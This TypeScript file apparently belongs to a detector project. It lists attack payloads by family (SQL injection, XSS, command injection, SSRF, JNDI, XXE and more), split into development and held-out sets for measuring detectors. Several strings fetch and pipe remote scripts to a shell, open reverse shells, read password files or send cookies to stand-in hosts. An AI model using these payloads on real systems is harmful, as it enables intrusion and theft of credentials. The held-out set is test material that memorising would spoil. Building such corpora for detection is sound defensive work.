// The project's own attack strings, per family (written for meshguard; no third-party corpus).
// Each family's list is split by a hash of the string into a development part (looked at while
// tuning detectors) and a held-out part (only ever measured): see corpus.ts `splitOf`.

export type Family =
  | 'sqli' | 'xss' | 'cmdi' | 'traversal' | 'ssrf' | 'ssti' | 'xxe' | 'ldap' | 'nosql' | 'jndi' | 'crlf' | 'redirect' | 'protocol';

export const PAYLOADS: Record<Exclude<Family, 'protocol'>, readonly string[]> = {
  sqli: [
    "' OR '1'='1", "' or 'x'='x' --", "1' OR 1=1-- -", "1 OR 1=1", '1 UNION SELECT username,password FROM users', "1' AND SLEEP(5)#", "'; DROP TABLE orders;--",
    '1 AND 1=1', "admin'--", "admin' #", "1' ORDER BY 3--", '-1 UNION/**/SELECT/**/null,version()', '1;SELECT pg_sleep(10)', "' AND extractvalue(1,concat(0x7e,version()))--",
    "1' WAITFOR DELAY '0:0:5'--", '1 AnD 1=2 UnIoN SeLeCt 1,2,3', "' || (SELECT user FROM dual) || '", '1)) OR ((1=1', "') OR ('a'='a", '" OR "1"="1',
    "1' AND (SELECT COUNT(*) FROM information_schema.tables)>0--", "x' UNION ALL SELECT NULL,NULL,table_name FROM information_schema.tables--", '1 GROUP BY 1,2,3--',
    "1' AND updatexml(1,concat(0x3a,user()),1)--", "'; EXEC xp_cmdshell('dir')--", '1;DECLARE @q varchar(99);SET @q=0x77;EXEC(@q)', "1' AND ASCII(SUBSTRING(user(),1,1))>64--",
    "1 and benchmark(5000000,md5(1))", "999' UNION SELECT 1,LOAD_FILE('/etc/passwd'),3-- ", "1' AND 1=(SELECT 1 FROM sqlite_master)--", '1 OR TRUE', "' OR 1 --",
    "1'/**/OR/**/'1'='1", "1 /*!50000UNION*/ /*!50000SELECT*/ 1,2", "a' AND 'b'='b", "1' and '1'='2", "1 RLIKE (SELECT 1)", '1 or sleep(3)#', "')) OR 1=1--",
    "1' INTO OUTFILE '/var/www/x.php'--", "'; INSERT INTO users VALUES('x','y')--", "'; UPDATE users SET role='admin' WHERE name='me'--", "0x50 OR 1=1", "1 AND 5=5",
    "name' AND 1=CAST((SELECT version()) AS int)--", "1%27%20OR%20%271%27%3D%271", "1' UNION SELECT @@version--", "1' and (select 1 from pg_catalog.pg_tables limit 1)=1--",
  ],
  xss: [
    '<script>alert(1)</script>', '<img src=x onerror=alert(1)>', '<svg/onload=alert(document.domain)>', 'javascript:alert(1)', "\"><script>fetch('//x.example?c='+document.cookie)</script>",
    '<iframe src=javascript:alert(1)>', '<body onload=prompt(1)>', '<details open ontoggle=confirm(1)>', "'-alert(1)-'", '<ScRiPt>eval(atob("YWxlcnQoMSk="))</sCrIpT>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>', '<input autofocus onfocus=alert(1)>', '<video><source onerror=alert(1)>', '"onmouseover="alert(1)', '<math><mtext><img src=x onerror=alert(1)>',
    '<object data="data:text/html,<script>alert(1)</script>">', '<svg><animate onbegin=alert(1) attributeName=x>', '</title><script>alert(1)</script>', '<marquee onstart=alert(1)>',
    '<img src="x" onerror="this.src=\'//x.example/?\'+document.cookie">', '";alert(String.fromCharCode(88,83,83))//', '<embed src=javascript:alert(1)>', '<base href="//x.example/">',
    '<style>@import "//x.example/x.css";</style>', '<form action=javascript:alert(1)><button>go</button></form>', '<div style="background:url(javascript:alert(1))">',
    '<img src=1 oNeRrOr=alert`1`>', '&lt;script&gt;alert(1)&lt;/script&gt;', '<svg><script>alert&#40;1&#41;</script>', '<x onclick=alert(1)>click', '<link rel=import href=//x.example>',
    '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e', '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">', "<img src=x:x onerror=eval('al'+'ert(1)')>",
    'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==', '<textarea autofocus onfocus=alert(1)>', '＜script＞alert(1)＜/script＞',
  ],
  cmdi: [
    '; cat /etc/passwd', '| id', '$(whoami)', '`uname -a`', '&& curl http://x.example/x.sh | sh', '; nc -e /bin/sh 192.0.2.1 4444', '|| ping -c 10 127.0.0.1',
    ';wget http://192.0.2.1/a -O /tmp/a', 'a;bash -i >& /dev/tcp/192.0.2.1/8080 0>&1', '| ls -la /', '; sleep 10', '& ping -n 5 127.0.0.1 &', '|whoami',
    "; c'a't /e't'c/pa's'swd", '; ca\\t /etc/hosts', ';cat$IFS/etc/passwd', '${IFS}cat${IFS}/etc/shadow', '$(curl -s http://x.example/p|bash)', '`id`', 'x|python3 -c "import os"',
    '; perl -e \'print 1\'', '& type C:\\Windows\\win.ini', '| dir c:\\', '; powershell -enc SQBFAFgA', '&& certutil -urlcache -f http://x.example/a.exe a.exe',
    '() { :;}; /bin/bash -c "id"', '; busybox nc 192.0.2.1 9 -e sh', '\nid\n', '; echo $PATH', '|| rm -rf /tmp/x', '; chmod 777 /tmp/x', ';/usr/bin/id',
    '$(sleep 5)', '; base64 -d <<< aWQ= | sh', '| nslookup x.example', '; env', "; php -r 'system(\"id\");'",
  ],
  traversal: [
    '../../../../etc/passwd', '..%2f..%2f..%2fetc%2fpasswd', '....//....//etc/passwd', '..\\..\\..\\windows\\win.ini', '/var/www/../../etc/shadow', '%2e%2e%2f%2e%2e%2fproc%2fself%2fenviron',
    '..%252f..%252fetc%252fhosts', '../../../../.env', '..;/..;/WEB-INF/web.xml', '..%c0%af..%c0%afetc%c0%afpasswd', 'php://filter/convert.base64-encode/resource=index.php',
    '/etc/passwd', 'file:///etc/passwd', '....\\\\....\\\\boot.ini', '%252e%252e%252f%252e%252e%252fetc/passwd', '../../../../../../proc/self/cmdline', 'C:\\Windows\\System32\\drivers\\etc\\hosts',
    '..%u2216..%u2216windows%u2216win.ini', '/..%2f..%2f..%2f.git/config', 'zip://uploads/x.zip#shell.php', 'phar://uploads/x.jpg/x', 'php://input', 'expect://id',
    '../../../../root/.ssh/id_rsa', '..%5c..%5c..%5cwindows%5csystem.ini', '.%2e/.%2e/.%2e/etc/passwd', '../../../var/log/nginx/access.log', 'data://text/plain;base64,PD9waHAgc3lzdGVtKCdpZCcpOz8+',
    '/proc/self/environ', '..././..././..././etc/passwd', '%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd', '../../../../../../../../etc/group',
  ],
  ssrf: [
    'http://169.254.169.254/latest/meta-data/iam/security-credentials/', 'http://metadata.google.internal/computeMetadata/v1/', 'http://127.0.0.1:6379/', 'http://localhost/admin',
    'gopher://127.0.0.1:25/_HELO', 'http://[::1]/', 'http://2130706433/', 'http://0x7f.0.0.1/', 'dict://localhost:11211/stats', 'http://0177.0.0.1/', 'http://127.1/',
    'http://169.254.170.2/v2/credentials', 'http://100.100.100.200/latest/meta-data/', 'http://[fd00:ec2::254]/latest/', 'https://trusted.example@127.0.0.1/', 'http://0.0.0.0:8080/',
    'http://localhost.localdomain/', 'http://127.0.0.1.nip.io/', 'http://internal.localhost/', 'ftp://192.168.1.10/x', 'ldap://127.0.0.1:389/dc=x', 'http://10.0.0.1:2375/containers/json',
    'http://[::ffff:127.0.0.1]/', 'http://3232235777/', 'http://kubernetes.default.svc/api', 'tftp://192.0.2.1/x', 'http://[0:0:0:0:0:ffff:7f00:1]/', 'https://x.example/rfi.txt?',
    'http://x.example/shell.txt?', 'jar:http://x.example/a.jar!/', 'http://169.254.169.254%2flatest%2fmeta-data',
  ],
  ssti: [
    '${7*7}', '{{7*7}}', '<%= 7*7 %>', '#{7*7}', '${{7*7}}', "{{''.__class__.__mro__[1].__subclasses__()}}", '{{config.items()}}', "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}",
    '${T(java.lang.Runtime).getRuntime().exec("id")}', '*{7*7}', '[[${7*7}]]', '{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}', '#set($x=7*7)$x', '{{constructor.constructor("alert(1)")()}}',
    '<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}', '{php}echo `id`;{/php}', '{{self._TemplateReference__context.cycler.__init__.__globals__.os.popen("id").read()}}', '@(7*7)',
    "${''.getClass().forName('java.lang.Runtime')}", '{{7*\'7\'}}', '{{lipsum.__globals__}}', '${{<%[%\'"}}%\\', '#{T(java.lang.System).getenv()}',
  ],
  xxe: [
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>', '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://x.example/e.dtd"> %p;]>',
    '<!ENTITY xxe SYSTEM "file:///c:/windows/win.ini">', '<x xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/passwd"/></x>',
    '<!DOCTYPE r [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;&a;">]><r>&b;</r>', '<?xml version="1.0"?><!DOCTYPE d SYSTEM "http://x.example/d.dtd"><d/>',
    '<!DOCTYPE foo PUBLIC "-//x//y" "http://x.example/p.dtd">', '%3C!DOCTYPE%20x%20%5B%3C!ENTITY%20e%20SYSTEM%20%22file%3A%2F%2F%2Fetc%2Fhosts%22%3E%5D%3E',
  ],
  ldap: [
    '*)(uid=*))(|(uid=*', 'admin)(&)', '*)(|(password=*))', 'x)(|(objectClass=*)', '*))%00', '(|(cn=*)(uid=admin))', 'admin*)((|userPassword=*)', '*)(!(cn=x)',
    'user)(mail=*@*', ')(cn=*))(|(cn=*',
  ],
  nosql: [
    '{"$ne": null}', '{"$gt": ""}', "'; return true; var x='", '{"$where": "sleep(100)"}', '{"$regex": ".*"}', "' || '1'=='1", 'this.password.match(/.*/)',
    '{"username": {"$in": ["admin"]}}', '[$ne]=1', "';sleep(5000);'", '{"$or": [{}, {"a": "a"}]}', 'db.getCollection("users").find()',
  ],
  jndi: [
    '${jndi:ldap://x.example/a}', '${${lower:j}ndi:ldap://x.example/a}', '${jndi:dns://x.example}', '${${::-j}${::-n}${::-d}${::-i}:rmi://x.example/y}', '${env:AWS_SECRET_ACCESS_KEY}',
    '%24%7Bjndi%3Aldap%3A%2F%2Fx.example%2Fa%7D', '${${upper:j}${upper:n}di:ldaps://x.example/z}', '${jndi:${lower:l}${lower:d}a${lower:p}://x.example/q}', '${${env:NOPE:-j}ndi${env:NOPE:-:}ldap://x.example/}',
    '${jndi:rmi://x.example:1099/o}', '${${date:\'j\'}${date:\'n\'}${date:\'d\'}${date:\'i\'}:ldap://x.example/}', '${sys:user.home}', '${jndi:iiop://x.example/}', '${java:version}',
    '${${k8s:k5:-J}${k8s:k5:-ND}i:ldap://x.example/}',
  ],
  crlf: [
    'x%0d%0aSet-Cookie:%20admin=1', 'x\r\nLocation: https://x.example/', '%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK', 'a%0aX-Injected:%20yes', '%E5%98%8A%E5%98%8DSet-Cookie:x=1',
    'foo%0d%0a%0d%0a<script>alert(1)</script>', '%0D%0ARefresh:%200;url=https://x.example', 'x%250d%250aSet-Cookie:y=2', 'a\nHost: x.example',
  ],
  redirect: [
    '//x.example/', '/\\x.example', '\\\\x.example', 'https://shop.example@x.example/', '//x.example/%2f..', '/%5cx.example', 'https:x.example', '//x.example@shop.example',
    'javascript://%0aalert(1)', '\\/\\/x.example/',
  ],
};

/** Protocol abuse: header sets, not values. */
export const PROTOCOL: readonly (readonly [string, string][])[] = [
  [['transfer-encoding', 'chunked'], ['content-length', '4']],
  [['transfer-encoding', 'chunked, identity']],
  [['x-original-url', '/admin']],
  [['x-rewrite-url', '/admin/users']],
  [['x-http-method-override', 'DELETE']],
  [['range', 'bytes=0-,1-,2-,3-,4-,5-,6-,7-,8-,9-']],
  [['transfer-encoding', ' chunked']],
  [['x-method-override', 'PUT']],
];
